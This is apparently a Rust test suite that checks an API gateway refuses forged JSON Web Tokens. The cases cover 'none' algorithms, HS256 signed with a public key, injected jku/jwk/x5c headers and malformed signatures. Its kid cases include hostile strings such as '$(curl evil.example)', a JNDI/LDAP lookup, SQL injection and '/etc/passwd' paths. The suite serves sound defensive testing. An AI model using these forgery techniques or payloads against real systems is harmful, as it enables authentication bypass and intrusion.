//! Tokens that are made to deceive whoever checks them, through the real gateway: each with the reason
//! for which it is refused. No service hears of one, and nobody fetches a key for one.

use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{ECDSA_P256_SHA256_ASN1_SIGNING, EcdsaKeyPair, KeyPair as _};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use super::Stage;
use crate::bench::World;
use crate::bench::http1::Request;
use crate::bench::token::{self, Algorithm, IssuerKey, Token};

/// A case: what it is, the token, and the reason of its refusal.
type Case = (String, String, Option<&'static str>);

const MALFORMED: Option<&str> = Some("token_malformed");
const ALGORITHM: Option<&str> = Some("token_algorithm");
const KEY: Option<&str> = Some("token_key_unknown");
const HEADER: Option<&str> = Some("token_header");
const SIGNATURE: Option<&str> = Some("token_signature");

fn encode(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// Header and claims of a token, with any header.
fn signed(header: &Value) -> String {
    let claims = Token::new().claims.to_string();
    format!("{}.{}", encode(header.to_string()), encode(claims))
}

fn with_signature(header: &Value, signature: &[u8]) -> String {
    format!("{}.{}", signed(header), encode(signature))
}

async fn hold(stage: &Stage, cases: Vec<Case>) {
    let cases: Vec<_> = cases
        .iter()
        .map(|(what, token, reason)| (what.as_str(), token.clone(), *reason))
        .collect();
    stage.hold("/orders/7", &cases).await;
}

#[tokio::test]
async fn no_spelling_of_none_is_an_algorithm() {
    let stage = Stage::set().await;
    let mut cases = Vec::new();
    for bits in 0..16_u32 {
        let spelled: String = "none"
            .chars()
            .enumerate()
            .map(|(at, c)| {
                if bits >> at & 1 == 1 {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect();
        let header = json!({ "alg": spelled, "kid": stage.world.issuer.kid });
        cases.push((
            format!("{spelled}, unsigned"),
            with_signature(&header, b""),
            ALGORITHM,
        ));
        let token = Token::new().header("alg", spelled.as_str());
        let token = token.sign(&stage.world.issuer);
        cases.push((format!("{spelled}, signed"), token, ALGORITHM));
    }
    for odd in [
        "",
        " none",
        "none ",
        "none\0",
        "n\u{f6}ne",
        "null",
        "0",
        "false",
        "NONE1",
    ] {
        let header = json!({ "alg": odd, "kid": stage.world.issuer.kid });
        cases.push((format!("{odd:?}"), with_signature(&header, b"x"), ALGORITHM));
    }
    for odd in [
        json!(null),
        json!(0),
        json!(false),
        json!(["none"]),
        json!({ "alg": "none" }),
    ] {
        let header = json!({ "alg": odd, "kid": stage.world.issuer.kid });
        cases.push((format!("{odd}"), with_signature(&header, b""), MALFORMED));
    }
    hold(&stage, cases).await;
}

#[tokio::test]
async fn a_public_key_is_no_secret_and_no_other_algorithm_is_taken() {
    let world = World::new();
    let rsa = IssuerKey::new("r1", Algorithm::Rs256);
    let keys = token::jwks(&[&world.issuer, &rsa]);
    world.folder.write("jwks.json", &keys);
    let stage = Stage::with(world, |config| {
        config.set("issuers.corp.algorithms", json!(["ES256", "RS256"]));
    })
    .await;
    let mut cases = vec![("RS256 as it is".to_owned(), Token::new().sign(&rsa), None)];
    for key in [&rsa, &stage.world.issuer] {
        let pem = key.public_pem();
        let der: String = pem.lines().filter(|line| !line.starts_with('-')).collect();
        let bytes = STANDARD.decode(&der).expect("base64");
        let jwk = key.jwk().to_string();
        let windows = pem.replace('\n', "\r\n");
        let secrets: [&[u8]; 8] = [
            pem.as_bytes(),
            pem.trim_end().as_bytes(),
            windows.as_bytes(),
            der.as_bytes(),
            &bytes,
            jwk.as_bytes(),
            keys.as_bytes(),
            b"",
        ];
        for (number, secret) in secrets.into_iter().enumerate() {
            let token = Token::new().sign_hs256(secret, &key.kid);
            cases.push((
                format!("HS256, secret {number} of {}", key.kid),
                token,
                ALGORITHM,
            ));
        }
    }
    for alg in [
        "HS384", "HS512", "RS1", "RSA1_5", "RSA-OAEP", "dir", "A128KW", "ES256K", "ES512",
        "Ed25519", "es256", "ES256 ",
    ] {
        let token = Token::new().header("alg", alg).sign(&stage.world.issuer);
        cases.push((alg.to_owned(), token, ALGORITHM));
    }
    // Algorithms of ours that this issuer does not use, or that its key is not for.
    for alg in ["ES384", "RS256", "PS256", "EdDSA"] {
        let token = Token::new().header("alg", alg).sign(&stage.world.issuer);
        cases.push((format!("{alg} with the EC key"), token, ALGORITHM));
    }
    let token = Token::new().header("alg", "RS512").sign(&rsa);
    cases.push(("RS512 with the RSA key".to_owned(), token, ALGORITHM));
    hold(&stage, cases).await;
}

#[tokio::test]
async fn a_kid_is_a_name_whatever_it_looks_like() {
    let stage = Stage::set().await;
    let key = &stage.world.issuer;
    let long = "k".repeat(10 * 1024);
    let kids = [
        "/dev/null",
        "../../../../../../dev/null",
        "jwks.json",
        "file:///etc/passwd",
        "https://evil.example/jwks.json",
        "' OR 1=1 --",
        "k1' UNION SELECT 'AAAA",
        "k1; DROP TABLE keys",
        "$(curl evil.example)",
        "`id`",
        "${jndi:ldap://evil.example/a}",
        "k1\0",
        "k1\n",
        " k1",
        "K1",
        "",
        "*",
        "0",
        "\u{202e}1k",
        &long,
    ];
    let named = |kid: Value| Token::new().header("kid", kid).sign(key);
    let mut cases: Vec<Case> = Vec::new();
    for kid in kids {
        let shown: String = kid.chars().take(40).collect();
        cases.push((format!("kid {shown:?}"), named(json!(kid)), KEY));
    }
    for kid in [json!(1), json!(["k1"]), json!({ "k1": 1 }), json!(true)] {
        cases.push((format!("kid {kid}"), named(kid), MALFORMED));
    }
    hold(&stage, cases).await;
}

#[tokio::test]
async fn a_token_brings_neither_a_key_nor_the_address_of_one() {
    let world = World::new();
    let evil = world.orders().start().await; // would hear of a fetch
    let stage = Stage::with(world, |_| ()).await;
    let mine = IssuerKey::es256("k1");
    let url = format!("https://{}/jwks.json", evil.address);
    let leaf = stage.world.partner("spiffe://partners.example/web/thief");
    let chain = json!([STANDARD.encode(leaf.chain[0].as_ref())]);
    let members = [
        ("jku", json!(url)),
        ("x5u", json!(url)),
        ("jwk", mine.jwk()),
        ("jwk", mine.bare_jwk()),
        ("jwk", json!(null)),
        ("x5c", chain.clone()),
        ("x5c", json!([])),
        ("crit", json!(["exp"])),
        ("crit", json!(["b64", "http://example.com/x"])),
        ("crit", json!([])),
        ("crit", json!("b64")),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("b64", json!("false")),
    ];
    let mut cases = Vec::new();
    for (name, value) in members {
        // A header member that is null is left out by the bench, so it is made by hand.
        for key in [&mine, &stage.world.issuer] {
            let mut header = json!({ "alg": "ES256", "kid": "k1" });
            header[name] = value.clone();
            let signed = signed(&header);
            let token = format!("{signed}.{}", encode(key.sign(signed.as_bytes())));
            cases.push((format!("{name}: {value}"), token, HEADER));
        }
    }
    // The payload unencoded, as RFC 7797 has it, is no base64url.
    let header =
        encode(json!({ "alg": "ES256", "kid": "k1", "b64": false, "crit": ["b64"] }).to_string());
    let plain = format!("{header}.payload");
    let token = format!(
        "{plain}.{}",
        encode(stage.world.issuer.sign(plain.as_bytes()))
    );
    cases.push(("an unencoded payload".to_owned(), token, MALFORMED));
    for (name, value) in [
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("cty", json!("JWT")),
    ] {
        let token = Token::new().header(name, value);
        cases.push((format!("{name}, signed"), token.sign(&mine), SIGNATURE));
    }
    hold(&stage, cases).await;
    assert_eq!(evil.connections(), 0, "nobody asked for a key");
}

#[tokio::test]
async fn what_is_no_compact_jws_is_no_token() {
    let stage = Stage::set().await;
    let key = &stage.world.issuer;
    let good = Token::new().sign(key);
    let parts: Vec<&str> = good.split('.').collect();
    let (header, payload, signature) = (parts[0], parts[1], parts[2]);
    let flattened = json!({ "protected": header, "payload": payload, "signature": signature });
    let general = json!({
        "payload": payload,
        "signatures": [{ "protected": header, "signature": signature }],
    });
    let jwe = encode(json!({ "alg": "RSA-OAEP", "enc": "A256GCM", "kid": "k1" }).to_string());
    let with = |member: &str, value: Value| Token::new().header(member, value).sign(key);
    let nested_header = json!({ "alg": "ES256", "kid": "k1", "typ": "JWT", "cty": "JWT" });
    let nested = format!("{}.{}", encode(nested_header.to_string()), encode(&good));
    let nested = format!("{nested}.{}", encode(key.sign(nested.as_bytes())));
    let twice = format!(
        "{}.{}",
        encode(format!(
            r#"{{"alg":"none","alg":"ES256","kid":"{}"}}"#,
            key.kid
        )),
        payload
    );
    let twice = format!("{twice}.{}", encode(key.sign(twice.as_bytes())));
    let deep = format!(r#"{{"x":{}{}}}"#, "[".repeat(4000), "]".repeat(4000));
    let text = |claims: &str| {
        let signed = format!("{header}.{}", encode(claims));
        format!("{signed}.{}", encode(key.sign(signed.as_bytes())))
    };
    let claims = Token::new().claims.to_string();
    let and = |more: &str| text(&claims.replacen('{', &format!("{{{more},"), 1));
    let cases = [
        ("flattened JSON", encode(flattened.to_string()), MALFORMED),
        (
            "flattened JSON in a part",
            format!("{}..", encode(flattened.to_string())),
            ALGORITHM,
        ),
        (
            "general JSON in a part",
            format!("{}..", encode(general.to_string())),
            ALGORITHM,
        ),
        ("a JWE", format!("{jwe}.AAAA.AAAA.AAAA.AAAA"), MALFORMED),
        (
            "a JWE without its key",
            format!("{jwe}..AAAA.AAAA.AAAA"),
            MALFORMED,
        ),
        (
            "a JWE's header",
            format!("{jwe}.{payload}.{signature}"),
            MALFORMED,
        ),
        ("zip", with("zip", json!("DEF")), MALFORMED),
        ("enc", with("enc", json!("A128GCM")), MALFORMED),
        ("a JWT in a JWT", nested, MALFORMED),
        ("alg twice", twice, MALFORMED),
        ("a claim twice", and(r#""sub":"root""#), MALFORMED),
        (
            "a claim twice, escaped",
            and(r#""\u0073ub":"root""#),
            MALFORMED,
        ),
        (
            "a claim twice, deep",
            and(r#""x":{"y":[{"a":1,"a":2}]}"#),
            MALFORMED,
        ),
        ("a number without end", and(r#""x":1e999"#), MALFORMED),
        (
            "exp without end",
            text(&claims.replace(r#""exp":"#, r#""exp":1e999,"e":"#)),
            MALFORMED,
        ),
        ("not a number", and(r#""x":NaN"#), MALFORMED),
        ("deep", text(&deep), MALFORMED),
        ("a list", text("[1]"), MALFORMED),
        ("two objects", text("{}{}"), MALFORMED),
        (
            "a byte order mark",
            text(&format!("\u{feff}{claims}")),
            MALFORMED,
        ),
        (
            "padding",
            format!("{header}.{payload}=.{signature}"),
            MALFORMED,
        ),
        (
            "the other alphabet",
            format!("{header}.{payload}.+{}", &signature[1..]),
            MALFORMED,
        ),
        ("no parts", "..".to_owned(), MALFORMED),
        ("no payload", format!("{header}..{signature}"), SIGNATURE),
        ("no header", format!(".{payload}.{signature}"), MALFORMED),
        ("as it is", good.clone(), None),
    ];
    let cases = cases.map(|(what, token, reason)| (what.to_owned(), token, reason));
    hold(&stage, cases.into()).await;

    // Unused bits: another spelling of the same bytes.
    let last = good.chars().last().expect("a character");
    let mut spellings = Vec::new();
    for other in ['A', 'B', 'C', 'D', 'Q', 'R', 'g', 'h', 'w', 'x'] {
        if other != last {
            let spelled = format!("{}{other}", &good[..good.len() - 1]);
            let canonical = matches!(other, 'A' | 'Q' | 'g' | 'w');
            let reason = if canonical { SIGNATURE } else { MALFORMED };
            spellings.push((format!("ends in {other}"), spelled, reason));
        }
    }
    hold(&stage, spellings).await;
}

#[tokio::test]
async fn only_the_right_signature_in_its_one_form_passes() {
    let pair = EcdsaKeyPair::generate(&ECDSA_P256_SHA256_ASN1_SIGNING).expect("a key");
    let point = pair.public_key().as_ref().to_vec();
    let asn1 = json!({
        "kty": "EC", "crv": "P-256", "kid": "asn1", "use": "sig", "alg": "ES256",
        "x": encode(&point[1..33]), "y": encode(&point[33..]),
    });
    let world = World::new();
    let keys = json!({ "keys": [world.issuer.jwk(), asn1] });
    world.folder.write("jwks.json", keys.to_string());
    let stage = Stage::with(world, |_| ()).await;
    let key = &stage.world.issuer;
    let header = json!({ "alg": "ES256", "kid": "asn1" });
    let der = pair
        .sign(&SystemRandom::new(), signed(&header).as_bytes())
        .expect("a signature");
    let der = with_signature(&header, der.as_ref());
    // The order of the curve: r or s of it is as good as none.
    let order = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    let order: Vec<u8> = (0..32)
        .map(|at| u8::from_str_radix(&order[at * 2..at * 2 + 2], 16).expect("hex"))
        .collect();
    let header = json!({ "alg": "ES256", "kid": key.kid });
    let mine = |bytes: &[u8]| with_signature(&header, bytes);
    let good = key.sign(signed(&header).as_bytes());
    let halves = |r: &[u8], s: &[u8]| mine(&[r, s].concat());
    let p384 = IssuerKey::new("k1", Algorithm::Es384);
    let cases = [
        ("as it is", mine(&good), None),
        ("r and s are zero", mine(&[0; 64]), SIGNATURE),
        ("r is zero", halves(&[0; 32], &good[32..]), SIGNATURE),
        ("s is zero", halves(&good[..32], &[0; 32]), SIGNATURE),
        ("r and s are the order", halves(&order, &order), SIGNATURE),
        (
            "r is 1, s is 1",
            halves(
                &[&[0; 31][..], &[1]].concat(),
                &[&[0; 31][..], &[1]].concat(),
            ),
            SIGNATURE,
        ),
        ("all ones", mine(&[0xff; 64]), SIGNATURE),
        (
            "r and s exchanged",
            halves(&good[32..], &good[..32]),
            SIGNATURE,
        ),
        ("empty", mine(b""), SIGNATURE),
        (
            "one byte more",
            mine(&[&good[..], &[0]].concat()),
            SIGNATURE,
        ),
        ("one byte less", mine(&good[..63]), SIGNATURE),
        (
            "a zero in front",
            mine(&[&[0], &good[..]].concat()),
            SIGNATURE,
        ),
        ("a right signature in DER", der, SIGNATURE),
        (
            "DER of zeros",
            mine(b"\x30\x06\x02\x01\x00\x02\x01\x00"),
            SIGNATURE,
        ),
        (
            "another curve",
            Token::new().header("alg", "ES256").sign(&p384),
            SIGNATURE,
        ),
        (
            "another key of the kind",
            Token::new().sign(&IssuerKey::es256("k1")),
            SIGNATURE,
        ),
    ];
    let cases = cases.map(|(what, token, reason)| (what.to_owned(), token, reason));
    hold(&stage, cases.into()).await;
}

#[tokio::test]
async fn keys_of_512_bits_are_not_used() {
    // Numbers of 512 and 256 bits: whoever has them has the private key in days, or in minutes.
    let modulus = "CAD984557C97E4039431A226AD727F0C6D43EF3D418469F1B375049B229843EE9F83B1F97738AC274F5F61F401F21F1913E4B64BB31B55A38D398C0DFED00B1392F0889711C44B359E7976C617FCC734F06E3E95C26476091B52F462E79413B5";
    let modulus: Vec<u8> = (0..64)
        .map(|at| u8::from_str_radix(&modulus[at * 2..at * 2 + 2], 16).expect("hex"))
        .collect();
    let weak = |bits: usize| {
        let n = encode(&modulus[..bits / 8]);
        json!({ "kty": "RSA", "kid": format!("rsa{bits}"), "n": n, "e": "AQAB" })
    };
    let world = World::new();
    let keys = json!({ "keys": [weak(512), weak(256), world.issuer.jwk()] });
    world.folder.write("jwks.json", keys.to_string());
    let stage = Stage::with(world, |config| {
        config.set("issuers.corp.algorithms", json!(["ES256", "RS256"]));
    })
    .await;
    let mut cases = Vec::new();
    for bits in [512, 256] {
        let header = json!({ "alg": "RS256", "kid": format!("rsa{bits}") });
        let token = with_signature(&header, &vec![1; bits / 8]);
        cases.push((format!("RSA of {bits} bits"), token, KEY));
    }
    let header = json!({ "alg": "RS256" });
    cases.push((
        "without kid".to_owned(),
        with_signature(&header, &[1; 64]),
        KEY,
    ));
    hold(&stage, cases).await;
    let said = stage.gateway.log().join("\n");
    assert!(said.contains("rsa512"), "the operator is told");
}

#[tokio::test]
async fn a_hostile_token_is_refused_alike_wherever_it_stands() {
    let stage = Stage::with(World::new(), |config| {
        let from = json!([
            "authorization",
            "header:x-token",
            "cookie:token",
            "query:access_token"
        ]);
        config.set("routes.orders-read.token.from", from);
    })
    .await;
    let none = Token::new().unsigned();
    let expired = Token::new().expired().sign(&stage.world.issuer);
    for (token, reason) in [(none, "token_algorithm"), (expired, "token_expired")] {
        let requests = [
            Request::get("/orders/7").bearer(&token),
            Request::get("/orders/7").header("X-Token", &token),
            Request::get("/orders/7").header("Cookie", &format!("token={token}")),
            Request::get(&format!("/orders/7?access_token={token}")),
        ];
        for request in requests {
            let answer = stage.client().request(&request).await;
            let came = stage.verdict(&answer).await;
            assert_eq!(came, (401, Some(reason.to_owned())));
        }
    }
    assert_eq!(stage.orders.requests().len(), 0);
}
